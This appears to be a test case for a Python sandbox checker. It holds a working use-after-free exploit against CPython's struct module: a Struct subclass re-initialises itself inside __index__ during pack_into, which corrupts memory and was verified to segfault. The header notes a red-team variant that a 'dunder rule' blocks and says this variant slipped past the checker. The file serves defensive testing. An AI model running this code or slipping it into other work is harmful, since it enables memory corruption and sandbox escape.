# expect: reject memory
# line: 14
# verified: SIGSEGV (exit 139) under the image's python3.11 (3.11.2)
# Mechanism: struct.Struct.__init__ on a live Struct frees the format's code array (s_codes)
#   and builds a new one; pack_into walks the old array while it converts its arguments with
#   the program's __index__, so a re-initialisation from there makes the packer read the
#   freed array and write where it says (the red team's nm_03 calls s.__init__ by hand, which
#   the dunder rule refuses).
# This member: the re-initialisation through super().__init__ in a method of a subclass.
# Checker before the rule: exit 0 (accepted)
import struct


class Packer(struct.Struct):
    def switch(self):
        super().__init__("1b")


s = Packer("20q")
buf = bytearray(160 * 8)


class Index:
    def __index__(self):
        s.switch()                 # frees the code array pack_into is walking
        x = [bytes(200) for _ in range(100)]
        return 1


try:
    s.pack_into(buf, 0, Index(), *range(19))
    print("packed", bytes(buf[:16]))
except Exception as e:
    print(type(e).__name__, e)
